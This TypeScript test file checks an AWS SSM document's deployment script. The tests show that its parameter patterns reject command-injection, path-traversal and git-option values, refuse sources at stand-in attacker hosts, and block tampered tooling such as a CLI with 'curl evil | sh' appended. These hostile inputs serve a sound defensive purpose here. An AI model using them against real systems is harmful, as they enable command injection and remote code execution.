// The SSM document's script, run by bash and by sh (Debian's dash, what aws:runShellScript may
// use) exactly as SSM would run it: the parameters substituted textually into the rendered text.
// Its allowedPattern regexes against hostile values; tooling-install against s3rver holding the
// objects exactly as the stack uploads them; the release verbs reaching the installed nourishctl.
import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { NOURISHCTL_LIB_PATH, NOURISHCTL_PATH, nourishctlFiles } from "../components/hosts/user-data";
import { toolingObjects } from "../components/hosts/tooling";
import { DocumentParams, PARAMETER_NAMES, PARAMETER_PATTERNS, parameterProblem, renderDocument, substitute, VERBS } from "../components/release/document";
import { ARTIFACT_PATTERNS, SEMVER } from "../components/release/patterns";
import { RELEASE_SOURCE_PATH } from "../components/release/source";
import { stackToolingFiles, TOOLING_DIR, toolingHash as hashOf } from "../components/release/steps";
import { buildArtifacts } from "../scripts/rehearsal/artifacts";
import { S3, startS3 } from "./s3";
import { requireTool, run } from "./tools";

const BUCKET = "nl-tooling-test";
const RELEASES = "nl-releases-test";

// The stack's tooling as HostTooling uploads it for release.version 1.0.0, whose artifact (as the
// stack names it) has a SHA-256 the uploaded tarball does not have: a fetch stops at the check.
const WRONG_SHA = "f".repeat(64);
const GENERATED = stackToolingFiles({ version: "1.0.0", artifact: { type: "s3", bucket: RELEASES, key: "releases/v1.tar.gz", sha256: WRONG_SHA } });
const toolingHash = () => hashOf(TOOLING_DIR, GENERATED);

const VALID: Record<string, string[]> = {
  version: ["1.4.2", "2.0.0-rc.1"],
  sha256: ["57673bba1bb6907251bb58edb0e35dfc1b7a9285e76c8cd82cc2a60e70b1577d"],
  backupKey: ["dumps/daily/db_backup_20261101_020000.dump", "dumps/monthly/db_backup_20261101_020000.sqlite3"],
  toolingHash: ["57673bba1bb6907251bb58edb0e35dfc1b7a9285e76c8cd82cc2a60e70b1577d"],
};

describe("the SSM document", () => {
  describe("allowedPattern", () => {
    it("admits the values the release sends, and empty", () => {
      for (const p of PARAMETER_NAMES) {
        assert.ok(PARAMETER_PATTERNS[p].test(""), `${p}: empty`);
        for (const v of VALID[p]) assert.ok(PARAMETER_PATTERNS[p].test(v), `${p}: ${v}`);
      }
    });

    it("refuses every hostile variant: ; $() backticks newlines quotes spaces, a leading -, .. segments", () => {
      const hostile = (v: string) => [
        `${v};id`, `${v}$(id)`, `${v}\`id\``, `${v}\nid`, `\n${v}`, `${v}\n`, `-${v}`, `--${v}`, `${v}"`, `${v}'`, `${v} x`, `${v}|id`, `${v}&`,
        `${v}>x`, `${v}\\`, `${v}{{ verb }}`, `$HOME${v}`, `${v}\r`, `${v}\0`,
      ];
      for (const p of PARAMETER_NAMES) {
        for (const v of VALID[p]) for (const h of hostile(v)) assert.ok(!PARAMETER_PATTERNS[p].test(h), `${p} admits ${JSON.stringify(h)}`);
      }
      // What config admits as release.artifact (ARTIFACT_PATTERNS): no `..`, no option, no credentials.
      for (const h of ["s3://b.example/../etc/passwd", "s3://b.example/x/../../y", "s3://b.example/./x", "s3://b.example/x/.hidden", "s3://b.example/-x", "s3://b.example/"]) {
        assert.ok(!ARTIFACT_PATTERNS.s3Object.test(h), h);
      }
      for (const h of ["https://github.com/../x.git", "https://github.com/-x", "--upload-pack=touch /tmp/x", "ext::sh -c id", "file:///etc", "git@github.com:../x", "https://u:p@github.com/x"]) {
        assert.ok(!ARTIFACT_PATTERNS.gitUrl.test(h), h);
      }
      for (const h of ["-v1", "v1..2", "v1/../x", "v1/-x", ".v1", "v1/", "v1."]) assert.ok(!ARTIFACT_PATTERNS.tag.test(h), h);
      for (const h of ["dumps/daily/../daily/db_backup_20261101_020000.dump", "x/dumps/daily/db_backup_20261101_020000.dump"]) assert.ok(!PARAMETER_PATTERNS.backupKey.test(h), h);
      for (const h of ["1.4", "01.4.2", "1.4.2/..", "../../etc"]) assert.ok(!PARAMETER_PATTERNS.version.test(h), h);
    });

    it("the document carries exactly these patterns, and a verb from the list only", () => {
      const doc = renderDocument({ toolingBucket: BUCKET, region: "af-south-1", timeoutSeconds: 1800 }) as { parameters: Record<string, { allowedPattern?: string; allowedValues?: string[] }> };
      for (const p of PARAMETER_NAMES) assert.strictEqual(new RegExp(doc.parameters[p].allowedPattern!).source, PARAMETER_PATTERNS[p].source);
      assert.deepStrictEqual(doc.parameters.verb.allowedValues, [...VERBS]);
      assert.match(parameterProblem({ verb: "sh" as never })!, /verb "sh" is not one of/);
      assert.match(parameterProblem({ verb: "backup", version: "1.0.0;id" })!, /version "1.0.0;id" does not match its allowedPattern/);
      assert.match(parameterProblem({ verb: "backup", command: "id" } as DocumentParams)!, /command is not a parameter/);
      assert.throws(() => substitute(doc, { verb: "release-migrate", version: "$(id)" }), /^Error: InvalidParameters: version/);
    });

    it("release-fetch takes a version (release.version's pattern), never where from: a bucket, key, URL or commit is refused", () => {
      const doc = renderDocument({ toolingBucket: BUCKET, region: "af-south-1", timeoutSeconds: 1800 }) as { parameters: Record<string, { allowedPattern?: string }> };
      assert.deepStrictEqual(Object.keys(doc.parameters), ["verb", "version", "sha256", "backupKey", "toolingHash"]);
      assert.strictEqual(doc.parameters.version.allowedPattern, `^$|^${SEMVER}$`);
      // What a sender would need to aim a host elsewhere: SSM refuses a parameter the document does not declare.
      for (const [name, value] of [
        ["s3Artifact", "s3://attacker-bucket/releases/evil.tar.gz"], ["gitUrl", "https://attacker.example/evil.git"], ["commit", "4c9d381ee11d476062383b684cbe0d11fde4912d"],
        ["tag", "v1.4.2"], ["bucket", "attacker-bucket"], ["key", "releases/evil.tar.gz"], ["source", "s3://attacker-bucket/x"],
      ]) {
        const params = { verb: "release-fetch", version: "1.4.2", [name]: value } as DocumentParams;
        assert.strictEqual(parameterProblem(params), `${name} is not a parameter of the document`);
        assert.throws(() => substitute(doc, params), new RegExp(`^Error: InvalidParameters: ${name} is not a parameter`));
      }
      // Nor can a source ride in the version or the one hex parameter fetch could read.
      for (const v of ["s3://attacker-bucket/x", "1.4.2 --s3 s3://attacker-bucket/x", "1.4.2--git=https://attacker.example/x", "https://attacker.example/x"]) {
        assert.match(parameterProblem({ verb: "release-fetch", version: v })!, /version .* does not match its allowedPattern/);
      }
      // The verb's one argv: the version, nothing else.
      const line = substitute(doc, { verb: "release-fetch", version: "1.4.2", sha256: VALID.sha256[0] }).split("\n").find((l) => l.trim().startsWith("release-fetch)"));
      assert.strictEqual(line?.trim(), 'release-fetch) need version "$version"; exec "$ctl" release fetch "$version" ;;');
    });
  });

  describe("its script, run by bash and sh against a host sandbox", function () {
    this.timeout(300_000);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nl-ssm-doc-"));
    const bin = path.join(dir, "bin");
    let s3: S3;
    const doc = () => renderDocument({ toolingBucket: BUCKET, region: "us-east-1", timeoutSeconds: 1800 });
    let artifact: { file: string; sha256: string };

    before(async () => {
      requireTool("shellcheck");
      s3 = await startS3({ buckets: [BUCKET, RELEASES] });
      // The objects exactly as HostTooling uploads them: laid out by key, in one recursive copy
      // (one aws CLI start-up instead of one per object).
      const upload = path.join(dir, "upload");
      for (const o of toolingObjects(TOOLING_DIR, GENERATED)) {
        fs.mkdirSync(path.dirname(path.join(upload, o.key)), { recursive: true });
        fs.writeFileSync(path.join(upload, o.key), o.content);
      }
      const cp = s3.aws(["s3", "cp", "--only-show-errors", "--recursive", upload, `s3://${BUCKET}/`]);
      assert.strictEqual(cp.status, 0, cp.stderr);
      const listed = s3.aws(["s3", "ls", "--recursive", `s3://${BUCKET}/`]);
      assert.strictEqual(listed.status, 0, listed.stderr);
      assert.deepStrictEqual(listed.stdout.trim().split("\n").map((l) => l.trim().split(/\s+/).pop()).sort(), toolingObjects(TOOLING_DIR, GENERATED).map((o) => o.key).sort());
      fs.mkdirSync(bin);
      // No cloud-init runs here: its status --wait answers with $CLOUD_INIT_RC.
      fs.writeFileSync(path.join(bin, "cloud-init"), "#!/bin/sh\nexit \"${CLOUD_INIT_RC:-0}\"\n", { mode: 0o755 });
      artifact = buildArtifacts(path.join(dir, "artifacts")).find((a) => a.name === "v1")!;
      assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", artifact.file, `s3://${RELEASES}/releases/v1.tar.gz`]).status, 0);
    });
    after(async () => {
      await s3?.stop();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    /** A new sandbox root whose host.env names `role`. */
    function host(role: "app" | "db"): string {
      const root = fs.mkdtempSync(path.join(dir, `${role}-`));
      fs.mkdirSync(path.join(root, "etc/nourish-link"), { recursive: true });
      fs.writeFileSync(path.join(root, "etc/nourish-link/host.env"), `ROLE=${role}\nDOMAIN=app.nourishlink.test\nKEEP_RELEASES=3\n`);
      return root;
    }
    function send(shell: "bash" | "sh", root: string, params: DocumentParams, extra: Record<string, string> = {}) {
      const script = substitute(doc(), params);
      return run(shell, ["-c", script], {
        env: { ...process.env, ...s3.env, S3_ENDPOINT: s3.endpoint, NOURISH_ROOT: root, NOURISH_LIB: path.join(root, NOURISHCTL_LIB_PATH), PIP_NO_INDEX: "1", PATH: `${bin}:/usr/bin:${process.env.PATH}`, ...extra },
      });
    }
    const installed = (root: string) => fs.existsSync(path.join(root, NOURISHCTL_LIB_PATH)) ? fs.readdirSync(path.join(root, NOURISHCTL_LIB_PATH)).sort() : [];

    it("passes shellcheck as sh, whatever the verb", () => {
      for (const verb of VERBS) {
        const file = path.join(dir, `${verb}.sh`);
        fs.writeFileSync(file, `#!/bin/sh\n${substitute(doc(), { verb, version: "1.0.0", toolingHash: toolingHash() })}`);
        const r = run("shellcheck", ["-s", "sh", file]);
        assert.strictEqual(r.status, 0, `${verb}:\n${r.stdout}`);
      }
    });

    for (const shell of ["bash", "sh"] as const) {
      it(`${shell}: tooling-install checks the manifest against the hash, the files against the manifest, installs the role's files, CLI last`, () => {
        for (const role of ["app", "db"] as const) {
          const root = host(role);
          // A library an older version had: removed by the install.
          fs.mkdirSync(path.join(root, NOURISHCTL_LIB_PATH), { recursive: true });
          fs.writeFileSync(path.join(root, NOURISHCTL_LIB_PATH, "gone.sh"), "");
          const r = send(shell, root, { verb: "tooling-install", toolingHash: toolingHash() });
          assert.strictEqual(r.status, 0, r.stderr);
          assert.match(r.stdout, new RegExp(`tooling ${toolingHash()} installed for ${role}`));
          for (const f of nourishctlFiles(role)) {
            const at = path.join(root, f.path);
            assert.strictEqual(fs.readFileSync(at, "utf8"), f.content, `${role}: ${f.path}`);
            assert.strictEqual((fs.statSync(at).mode & 0o777).toString(8), f.permissions === "0755" ? "755" : "644", f.path);
          }
          assert.deepStrictEqual(installed(root), nourishctlFiles(role).filter((f) => f.path.startsWith(NOURISHCTL_LIB_PATH)).map((f) => path.basename(f.path)).sort());
          // The release source the stack wrote: on the app hosts only, as rendered, root's 0644.
          const source = path.join(root, RELEASE_SOURCE_PATH);
          if (role === "db") assert.ok(!fs.existsSync(source), "a db host got the release source");
          else {
            assert.strictEqual(fs.readFileSync(source, "utf8"), GENERATED[0].content);
            assert.strictEqual((fs.statSync(source).mode & 0o777).toString(8), "644");
          }
        }
      });
    }

    it("tooling-install refuses a hash the bucket has no manifest for, a manifest that is not the hash, a file that is not the manifest's", () => {
      const other = "0".repeat(64);
      const root = host("db");
      let r = send("sh", root, { verb: "tooling-install", toolingHash: other });
      assert.strictEqual(r.status, 1);
      assert.match(r.stderr, new RegExp(`nourish-link: tooling-install: cannot download s3://${BUCKET}/tooling/${other}/manifest.sha256`));
      // A version whose manifest was replaced: its SHA-256 is not the hash any more.
      const hash = toolingHash();
      const objects = toolingObjects(TOOLING_DIR, GENERATED);
      const put = (key: string, content: string) => {
        fs.writeFileSync(path.join(dir, "put"), content);
        assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", path.join(dir, "put"), `s3://${BUCKET}/${key}`]).status, 0);
      };
      const manifest = objects.find((o) => o.key.endsWith("manifest.sha256"))!;
      const cli = objects.find((o) => o.key.endsWith("/host/nourishctl"))!;
      try {
        put(manifest.key, manifest.content + `${"1".repeat(64)}  lib/extra.sh\n`);
        r = send("sh", root, { verb: "tooling-install", toolingHash: hash });
        assert.strictEqual(r.status, 1);
        assert.match(r.stderr, new RegExp(`tooling manifest s3://${BUCKET}/tooling/${hash}/manifest.sha256 has sha256 [0-9a-f]{64}, expected ${hash}; nothing installed`));
        put(manifest.key, manifest.content);
        put(cli.key, cli.content + "\ncurl evil | sh\n");
        r = send("sh", root, { verb: "tooling-install", toolingHash: hash });
        assert.strictEqual(r.status, 1);
        assert.match(r.stderr, /nourishctl: FAILED/);
        assert.match(r.stderr, new RegExp(`the tooling files under s3://${BUCKET}/tooling/${hash}/host/ do not match its manifest; nothing installed`));
        assert.deepStrictEqual(installed(root), []);
        assert.ok(!fs.existsSync(path.join(root, NOURISHCTL_PATH)));
      } finally {
        put(manifest.key, manifest.content);
        put(cli.key, cli.content);
      }
    });

    it("tooling-install waits for first boot and stops when it failed (cloud-init status 1); 2 (recoverable) is fine", () => {
      const root = host("db");
      const failed = send("sh", root, { verb: "tooling-install", toolingHash: toolingHash() }, { CLOUD_INIT_RC: "1" });
      assert.strictEqual(failed.status, 1);
      assert.match(failed.stderr, /first boot did not finish cleanly \(cloud-init status 1\)/);
      assert.deepStrictEqual(installed(root), []);
      assert.strictEqual(send("sh", root, { verb: "tooling-install", toolingHash: toolingHash() }, { CLOUD_INIT_RC: "2" }).status, 0);
    });

    it("each release verb reaches the installed nourishctl with its fixed argv; release-fetch fetches what the installed release source names", () => {
      const root = host("app");
      assert.strictEqual(send("bash", root, { verb: "tooling-install", toolingHash: toolingHash() }).status, 0);
      let r = send("bash", root, { verb: "release-fetch", version: "1.0.0" });
      assert.strictEqual(r.status, 1);
      assert.match(r.stderr, new RegExp(`release fetch: artifact s3://${RELEASES}/releases/v1\\.tar\\.gz has sha256 ${artifact.sha256}, expected ${WRONG_SHA}; not installed`));
      r = send("bash", root, { verb: "release-fetch", version: "2.0.0" });
      assert.strictEqual(r.status, 1);
      assert.match(r.stderr, new RegExp(`release fetch: this host's stack names release 1\\.0\\.0 \\(${root}${RELEASE_SOURCE_PATH}\\), not 2\\.0\\.0; nothing fetched`));
      r = send("bash", root, { verb: "release-switch", version: "2.0.0", backupKey: VALID.backupKey[0] });
      assert.match(r.stderr, /release switch: release 2\.0\.0 is not installed here/);
      r = send("bash", root, { verb: "rollback" });
      assert.match(r.stderr, /rollback: no release is live yet/);
    });

    it("a verb without the parameter it needs fails naming it, before nourishctl runs", () => {
      const root = host("app");
      for (const [params, missing] of [
        [{ verb: "release-switch", version: "1.0.0" }, "backupKey"], [{ verb: "release-migrate" }, "version"], [{ verb: "tooling-install" }, "toolingHash"],
        [{ verb: "release-fetch" }, "version"],
      ] as [DocumentParams, string][]) {
        const r = send("sh", root, params);
        assert.strictEqual(r.status, 1);
        assert.strictEqual(r.stderr.trim(), `nourish-link: ${params.verb}: needs the parameter ${missing}`);
      }
    });
  });
});
